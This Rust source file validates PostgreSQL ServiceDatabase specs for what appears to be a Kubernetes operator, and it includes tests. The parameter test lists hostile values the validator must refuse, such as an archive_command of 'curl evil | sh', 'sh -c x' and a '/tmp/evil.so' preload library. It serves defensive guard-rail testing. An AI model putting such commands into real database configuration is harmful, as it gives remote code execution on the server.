//! Validation of a ServiceDatabase spec against the API's rules and the operator's guard rails, before anything is applied or connected to (pure, no I/O).
//!
//! The apiserver already refuses most of this at admission (CRD schema and CEL); the controller
//! checks again because objects stored before a rule existed are not re-validated, and because
//! the guard rails (images, preload libraries, external hosts) are the operator's configuration,
//! which the CRD cannot know.

use super::guard_rails::GuardRails;
use crate::api::parameters::{SHARED_PRELOAD_LIBRARIES, check_parameter};
use crate::api::service_database::{RESERVED_DATABASE_NAMES, ServiceDatabaseSpec};
use crate::specs::instance;

/// A spec the controller will not act on: `Ready=False` with this reason and message, and a
/// Warning Event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Invalid {
    /// CamelCase reason (condition reason and Event reason).
    pub reason: &'static str,
    /// What is wrong, for the user.
    pub message: String,
}

/// Reason: the database name is one the operator never takes over.
pub const RESERVED_DATABASE_NAME: &str = "ReservedDatabaseName";
/// Reason: `managed.image` is outside `--allowed-images`.
pub const IMAGE_NOT_ALLOWED: &str = "ImageNotAllowed";
/// Reason: a `managed.parameters` key or preload library is not allowed.
pub const PARAMETER_NOT_ALLOWED: &str = "ParameterNotAllowed";
/// Reason: `external.host` is outside `--allowed-external-hosts`.
pub const EXTERNAL_HOST_NOT_ALLOWED: &str = "ExternalHostNotAllowed";

/// Check `spec` against the reserved names, the parameter allow-list and the guard rails. The
/// first violation wins; nothing may be applied or connected to when this fails.
pub fn validate(spec: &ServiceDatabaseSpec, rails: &GuardRails) -> Result<(), Invalid> {
    let database = spec.database_name();
    if RESERVED_DATABASE_NAMES.contains(&database.as_str()) {
        return Err(Invalid {
            reason: RESERVED_DATABASE_NAME,
            message: format!(
                "the database name {database} is reserved ({} are the server's and the managed clouds' own databases and are never taken over); set database.name to another name",
                RESERVED_DATABASE_NAMES.join(", ")
            ),
        });
    }
    if let Some(managed) = &spec.instance.managed {
        rails
            .allowed_images
            .check(&instance::image(managed))
            .map_err(|message| Invalid {
                reason: IMAGE_NOT_ALLOWED,
                message,
            })?;
        for (key, value) in &managed.parameters {
            let not_allowed = |message: String| Invalid {
                reason: PARAMETER_NOT_ALLOWED,
                message,
            };
            check_parameter(key, value)
                .map_err(|why| not_allowed(format!("parameter {key}: {}", why.explain())))?;
            if key == SHARED_PRELOAD_LIBRARIES {
                rails
                    .allowed_preload_libraries
                    .check(value)
                    .map_err(not_allowed)?;
            }
        }
    }
    if let Some(external) = &spec.instance.external {
        if database == external.admin_database {
            return Err(Invalid {
                reason: RESERVED_DATABASE_NAME,
                message: format!(
                    "the database name {database} is the external server's admin database (instance.external.adminDatabase), which the operator never takes over; set database.name to another name"
                ),
            });
        }
        rails
            .allowed_external_hosts
            .check(&external.host)
            .map_err(|message| Invalid {
                reason: EXTERNAL_HOST_NOT_ALLOWED,
                message,
            })?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(value: serde_json::Value) -> ServiceDatabaseSpec {
        serde_json::from_value(value).unwrap()
    }

    fn managed(extra: serde_json::Value) -> ServiceDatabaseSpec {
        let mut m = serde_json::json!({"version": 17, "storage": {"size": "1Gi"}});
        if let (Some(m), Some(extra)) = (m.as_object_mut(), extra.as_object()) {
            m.extend(extra.clone());
        }
        spec(serde_json::json!({"owner": {"service": "orders"}, "instance": {"managed": m}}))
    }

    fn external(service: &str, host: &str, admin_db: Option<&str>) -> ServiceDatabaseSpec {
        let mut ext = serde_json::json!({"host": host, "adminSecretRef": {"name": "a"}});
        if let Some(db) = admin_db {
            ext["adminDatabase"] = db.into();
        }
        spec(serde_json::json!({"owner": {"service": service}, "instance": {"external": ext}}))
    }

    fn reason(s: &ServiceDatabaseSpec, rails: &GuardRails) -> Option<&'static str> {
        validate(s, rails).err().map(|i| i.reason)
    }

    #[test]
    fn an_ordinary_spec_is_valid() {
        let rails = GuardRails::default();
        assert_eq!(validate(&managed(serde_json::json!({})), &rails), Ok(()));
        assert_eq!(
            validate(&external("orders", "pg.internal", None), &rails),
            Ok(())
        );
    }

    #[test]
    fn reserved_database_names_are_refused_including_the_derived_name() {
        let rails = GuardRails::default();
        let mut s = managed(serde_json::json!({}));
        for name in ["postgres", "template0", "template1", "rdsadmin"] {
            s.database.name = Some(name.to_owned());
            assert_eq!(reason(&s, &rails), Some(RESERVED_DATABASE_NAME), "{name}");
        }
        // owner.service `postgres` without database.name derives `postgres`.
        assert_eq!(
            reason(&external("postgres", "pg.internal", None), &rails),
            Some(RESERVED_DATABASE_NAME)
        );
        // `template-1` derives `template_1`, which is fine.
        assert_eq!(
            reason(&external("template-1", "pg.internal", None), &rails),
            None
        );
    }

    #[test]
    fn the_external_admin_database_is_refused() {
        let rails = GuardRails::default();
        let s = external("admin", "pg.internal", Some("admin"));
        let invalid = validate(&s, &rails).unwrap_err();
        assert_eq!(invalid.reason, RESERVED_DATABASE_NAME);
        assert!(
            invalid.message.contains("adminDatabase"),
            "{}",
            invalid.message
        );
        assert_eq!(
            reason(&external("orders", "pg.internal", Some("admin")), &rails),
            None
        );
    }

    #[test]
    fn an_image_outside_the_allow_list_is_refused() {
        let rails = GuardRails::default();
        let s = managed(serde_json::json!({"image": "evil.example/pg:17"}));
        let invalid = validate(&s, &rails).unwrap_err();
        assert_eq!(invalid.reason, IMAGE_NOT_ALLOWED);
        assert!(invalid.message.contains("evil.example/pg:17"));
        assert_eq!(
            reason(
                &managed(serde_json::json!({"image": "postgres:17-alpine"})),
                &rails
            ),
            None
        );
    }

    #[test]
    fn the_default_image_is_checked_too() {
        let rails = GuardRails {
            allowed_images: "registry.internal/*".parse().unwrap(),
            ..GuardRails::default()
        };
        assert_eq!(
            reason(&managed(serde_json::json!({})), &rails),
            Some(IMAGE_NOT_ALLOWED)
        );
    }

    #[test]
    fn parameters_outside_the_allow_list_are_refused() {
        let rails = GuardRails::default();
        for (key, value) in [
            ("archive_command", "curl evil | sh"),
            ("ssl_passphrase_command", "sh -c x"),
            ("local_preload_libraries", "x"),
            ("listen_addresses", "*"),
            ("fsync", "off"),
            ("shared_preload_libraries", "/tmp/evil.so"),
            ("shared_preload_libraries", "basebackup_to_shell"),
        ] {
            let s = managed(serde_json::json!({"parameters": {key: value}}));
            let invalid = validate(&s, &rails).unwrap_err();
            assert_eq!(invalid.reason, PARAMETER_NOT_ALLOWED, "{key}={value}");
        }
        let s = managed(serde_json::json!({"parameters": {
            "max_connections": "200", "work_mem": "8MB",
            "shared_preload_libraries": "pg_stat_statements"
        }}));
        assert_eq!(validate(&s, &rails), Ok(()));
    }

    #[test]
    fn an_external_host_outside_the_allow_list_is_refused() {
        let rails = GuardRails {
            allowed_external_hosts: "10.0.0.0/8,.db.internal".parse().unwrap(),
            ..GuardRails::default()
        };
        assert_eq!(
            reason(&external("orders", "a.db.internal", None), &rails),
            None
        );
        assert_eq!(reason(&external("orders", "10.2.3.4", None), &rails), None);
        let invalid = validate(&external("orders", "127.0.0.1", None), &rails).unwrap_err();
        assert_eq!(invalid.reason, EXTERNAL_HOST_NOT_ALLOWED);
        assert!(
            invalid.message.contains("did not connect"),
            "{}",
            invalid.message
        );
    }
}
